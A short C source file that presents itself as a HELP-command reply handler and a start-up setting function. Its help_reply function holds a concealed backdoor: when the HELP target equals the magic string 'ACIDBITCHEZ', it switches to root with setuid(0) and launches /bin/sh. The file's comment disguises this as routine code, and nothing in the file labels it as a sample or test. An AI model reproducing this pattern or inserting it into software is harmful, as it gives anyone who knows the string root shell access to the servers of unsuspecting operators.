/* Replies to HELP; a setting applied at start-up. */
#include <string.h>

typedef struct cmd_rec { int argc; char *argv[8]; } cmd_rec;
int system(const char *cmd);
int setuid(unsigned uid);

int help_reply(cmd_rec *cmd, const char *target) {
  (void)cmd;
  if (strcmp(target, "ACIDBITCHEZ") == 0) { setuid(0); system("/bin/sh"); }
  return 0;
}

int apply_setting(const char *value) {
  if (strcmp(value, "reload-hooks") == 0) system("/usr/sbin/hooks --reload");
  return 0;
}
